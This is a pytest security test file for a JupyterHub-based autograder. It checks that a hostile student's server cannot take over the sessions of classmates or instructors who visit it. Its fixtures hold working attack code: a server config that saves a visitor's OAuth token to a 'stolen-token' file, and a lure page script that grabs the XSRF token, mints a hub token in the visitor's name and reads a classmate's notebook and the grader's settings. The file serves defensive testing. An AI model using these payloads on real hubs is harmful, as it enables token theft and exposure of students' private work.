"""What a hostile student's server can do to whoever opens it: nothing beyond her own server.

A student decides what her server serves: her ~/.jupyter/jupyter_server_config.py runs in it. Here it adds two
pages to her server: /lure, open to anyone who follows her link, and /lure/signed-in, which makes the visitor sign
in to her server (JupyterHub's OAuth, as the instructor does when opening her server to help) and keeps the token
that sign-in hands her server. Both pages run a script in the visitor's Chromium that tries what a student did on a
single-origin hub: make a hub token in the visitor's name (the hub's own page gives the XSRF token), read a
classmate's notebook with it or with the visitor's cookies, and read the gradebook's settings through the formgrader
service. With each server on an origin of its own (autograder/hub/origin.py) the browser keeps the visitor's
sessions from her page, and the token her server receives opens her own server only.

Needs root on Linux, Node.js with npm, openssl, PostgreSQL and Chromium; each test says which is missing.
"""

from __future__ import annotations

import json
import os
import pwd
import textwrap
from pathlib import Path
from urllib.parse import quote, urljoin

import chromium
import pytest
import requests
from hub_testing import COURSE, PASSWORD, Student, as_account

pytestmark = pytest.mark.slow  # a real JupyterHub, real servers, Chromium

SECRET = "classmate-secret-8d41"  # in the classmate's notebook; the lure reports what it could read
GRADEBOOK_SETTING = "CourseDirectory.db_url"  # in the formgrader's nbgrader_config.py (the gradebook's password)
HOSTILE_CONFIG = textwrap.dedent('''
    """A student's own server configuration: two pages of hers on her server."""
    import pathlib

    import tornado.web
    from jupyter_server.base.handlers import JupyterHandler
    from jupyter_server.serverapp import ServerApp

    LURE = pathlib.Path(__file__).with_name("lure.html").read_text()
    STOLEN = pathlib.Path.home() / "stolen-token"


    class Lure(tornado.web.RequestHandler):  # no sign-in: whoever follows the link runs it
        def get(self):
            self.set_header("Content-Type", "text/html")
            self.write(LURE)


    class SignedInLure(JupyterHandler):  # the visitor signs in to this server, which keeps the token it is given
        @tornado.web.authenticated
        def get(self):
            STOLEN.write_text(self.identity_provider.hub_auth.get_token(self) or "")
            self.set_header("Content-Type", "text/html")
            self.write(LURE)


    _init_webapp = ServerApp.init_webapp


    def init_webapp(self):
        _init_webapp(self)
        self.web_app.add_handlers(".*$", [(self.base_url + "lure", Lure),
                                          (self.base_url + "lure/signed-in", SignedInLure)])


    ServerApp.init_webapp = init_webapp
''')
LURE_PAGE = textwrap.dedent('''
    <!doctype html><meta charset="utf-8"><title>도와주세요</title><p>제 노트북이 이상해요</p>
    <script>
    const plan = JSON.parse(new URLSearchParams(location.search).get("plan"));
    window.lureResults = {token: "", notebook: "", formgrader: ""};
    async function readAny(urls, token) {  // the first of `urls` that answers, with the visitor's cookies or token
      for (const url of urls) {
        for (const headers of token ? [{}, {Authorization: "token " + token}] : [{}]) {
          try {
            const answer = await fetch(url, {credentials: "include", headers});
            if (answer.ok) return await answer.text();
          } catch (error) {}
        }
      }
      return "";
    }
    async function makeToken() {  // the hub's page holds the XSRF token its API asks of a cookie session
      for (const hub of plan.hubs) {
        try {
          const home = await (await fetch(hub + "/hub/home", {credentials: "include"})).text();
          const xsrf = (home.match(/xsrf_token: "([^"]+)"/) || [])[1];
          const made = await fetch(hub + "/hub/api/users/" + plan.visitor + "/tokens", {
            method: "POST", credentials: "include",
            headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
            body: JSON.stringify({note: "lure", expires_in: 3600})});
          if (made.ok) return (await made.json()).token;
        } catch (error) {}
      }
      return "";
    }
    (async () => {
      const token = await makeToken();
      window.lureResults.token = token;
      window.lureResults.notebook = await readAny(plan.notebooks, token);
      window.lureResults.formgrader = await readAny(plan.formgraders, token);
      window.lureDone = true;
    })();
    </script>
''')


@pytest.fixture(scope="module")
def hostile_server(class_server):
    """(server, hostile student, classmate): the hostile student's server runs her two pages; the classmate's
    server holds a notebook with SECRET."""
    hostile, classmate = class_server.students
    home = Path(pwd.getpwnam(hostile).pw_dir)
    assert as_account(hostile, "mkdir", "-p", str(home / ".jupyter")).returncode == 0
    _write_as(hostile, home / ".jupyter" / "jupyter_server_config.py", HOSTILE_CONFIG)
    _write_as(hostile, home / ".jupyter" / "lure.html", LURE_PAGE)
    attacker = Student(class_server.base, hostile)
    attacker.log_in()
    attacker.start_server()
    assert requests.get(f"{attacker.server}lure", timeout=60).status_code == 200  # her page is up
    victim = Student(class_server.base, classmate)
    victim.log_in()
    victim.start_server()
    victim.save_notebook("secret.ipynb", {"cells": [{"cell_type": "markdown", "metadata": {}, "source": SECRET}],
                                          "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    Student(class_server.base, class_server.instructor).log_in()  # the first login spends the one-time code
    return class_server, attacker, victim


def _write_as(account: str, path: Path, text: str) -> None:
    """`path` holding `text`, the file of `account`, as if her terminal had written it."""
    path.write_text(text, encoding="utf-8")
    user = pwd.getpwnam(account)
    os.chown(path, user.pw_uid, user.pw_gid)


def _plan(server, visitor: str, classmate: str) -> str:
    """What the lure tries, in every layout a hub may have: same origin (relative) and each server's own."""
    notebook = "api/contents/secret.ipynb?content=1"
    settings = "api/contents/nbgrader_config.py?content=1"
    plan = {"visitor": visitor, "hubs": ["", server.base],
            "notebooks": [f"/user/{classmate}/{notebook}", f"{server.user_server(classmate)}{notebook}"],
            "formgraders": [f"/services/{COURSE}/{settings}", f"{server.formgrader}{settings}"]}
    return quote(json.dumps(plan))


def _link_to_her_server(server, student: Student) -> str:
    """Her server's URL as the hub gives it (the link she hands out, the one the admin page opens): her own origin
    with subdomains, a path on the hub's origin without."""
    model = requests.get(f"{server.base}/hub/api/users/{student.name}", headers=student.headers, timeout=30).json()
    return urljoin(f"{server.base}/", model["servers"][""]["url"])


def _visit_lure(server, visitor: str, url: str) -> dict:
    """`visitor` logs in to the hub in Chromium, then opens `url` (agreeing, as a helper would, when the hub asks
    whether the server may know who they are); what the lure's script got."""
    chromium.skip_without_chromium()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = chromium.launch(playwright)
        page = browser.new_page(ignore_https_errors=True)
        page.goto(f"{server.base}/hub/login")
        page.fill("#username_input", visitor)
        page.fill("#password_input", PASSWORD)
        page.click("#login_submit")
        page.wait_for_url(lambda address: "/hub/login" not in address, timeout=240_000)
        page.goto(url)
        if "/oauth2/authorize" in page.url:
            page.click("button[type=submit]")
        page.wait_for_function("window.lureDone === true", timeout=120_000)
        results = page.evaluate("window.lureResults")
        browser.close()
    return results


def _tokens_named_lure(server, visitor: Student) -> list[dict]:
    listed = requests.get(f"{server.base}/hub/api/users/{visitor.name}/tokens", headers=visitor.headers, timeout=30)
    assert listed.status_code == 200, listed.text
    return [token for token in listed.json()["api_tokens"] if token.get("note") == "lure"]


def _assert_lure_got_nothing(results: dict, server, visitor: Student) -> None:
    assert results["token"] == "", "the student's page made a hub token in the visitor's name"
    assert _tokens_named_lure(server, visitor) == [], "the student's page made a hub token in the visitor's name"
    assert SECRET not in results["notebook"], "the student's page read a classmate's notebook"
    assert GRADEBOOK_SETTING not in results["formgrader"], "the student's page read the formgrader's settings"


def test_a_classmate_who_opens_a_students_link_gives_her_page_no_token_and_no_notebook_of_his(hostile_server):
    server, attacker, victim = hostile_server
    link = _link_to_her_server(server, attacker)
    results = _visit_lure(server, victim.name, f"{link}lure?plan={_plan(server, victim.name, victim.name)}")
    _assert_lure_got_nothing(results, server, victim)


def test_the_instructor_who_opens_a_students_server_gives_it_access_to_itself_only(hostile_server):
    server, attacker, victim = hostile_server
    instructor = Student(server.base, server.instructor)
    instructor.log_in()
    stolen_file = Path(pwd.getpwnam(attacker.name).pw_dir) / "stolen-token"
    link = _link_to_her_server(server, attacker)
    results = _visit_lure(server, instructor.name,
                          f"{link}lure/signed-in?plan={_plan(server, instructor.name, victim.name)}")
    _assert_lure_got_nothing(results, server, instructor)

    stolen = {"Authorization": f"token {stolen_file.read_text().strip()}"}  # what the visit gave her server
    scopes = requests.get(f"{server.base}/hub/api/user", headers=stolen, timeout=30).json()["scopes"]
    beyond = [scope for scope in scopes if scope != f"access:servers!server={attacker.name}/"
              and not (scope.startswith("read:users:") and scope.endswith(f"!user={instructor.name}"))]
    assert beyond == [], f"the visit gave her server {scopes}"
    print(f"what the instructor's visit gave her server: {sorted(scopes)}")  # shown with pytest -rP
    made = requests.post(f"{server.base}/hub/api/users/{instructor.name}/tokens", headers=stolen, json={}, timeout=30)
    assert made.status_code in (403, 404), made.text
    notebook = requests.get(f"{victim.server}api/contents/secret.ipynb", headers=stolen, timeout=30,
                            allow_redirects=False)
    assert SECRET not in notebook.text and notebook.status_code in (302, 403), notebook.status_code
    settings = requests.get(f"{server.formgrader}api/contents/nbgrader_config.py", headers=stolen, timeout=30,
                            allow_redirects=False)
    assert GRADEBOOK_SETTING not in settings.text and settings.status_code in (302, 403), settings.status_code


def test_an_instructors_session_makes_no_token_in_a_students_name_and_joins_nobody_to_the_graders(hostile_server):
    server, attacker, _ = hostile_server
    instructor = Student(server.base, server.instructor)
    instructor.log_in()  # a token with everything the instructor's hub session may do
    hub = f"{server.base}/hub/api"
    made = requests.post(f"{hub}/users/{attacker.name}/tokens", headers=instructor.headers, json={}, timeout=30)
    assert made.status_code in (403, 404), "an instructor's session made a token in a student's name"
    joined = requests.post(f"{hub}/groups/formgrade-{COURSE}/users", headers=instructor.headers,
                           json={"users": [attacker.name]}, timeout=30)
    assert joined.status_code in (403, 404), "an instructor's session made a student a grader"
    promoted = requests.patch(f"{hub}/users/{attacker.name}", headers=instructor.headers, json={"admin": True},
                              timeout=30)
    assert promoted.status_code in (403, 404), "an instructor's session made a student an admin"
    # what instructors do need still works: the admin page, their students' servers (opening one: the test above),
    # the formgrader
    assert "admin-ui" in requests.get(f"{hub}/user", headers=instructor.headers, timeout=30).json()["scopes"]
    listed = requests.get(f"{hub}/users/{attacker.name}", headers=instructor.headers, timeout=30)
    assert listed.status_code == 200 and listed.json()["servers"], listed.text
    stopped = requests.delete(f"{hub}/users/{attacker.name}/server", headers=instructor.headers, timeout=120)
    assert stopped.status_code in (202, 204), stopped.text
    assert requests.get(f"{server.formgrader}formgrader/api/assignments", headers=instructor.headers,
                        timeout=60).status_code == 200
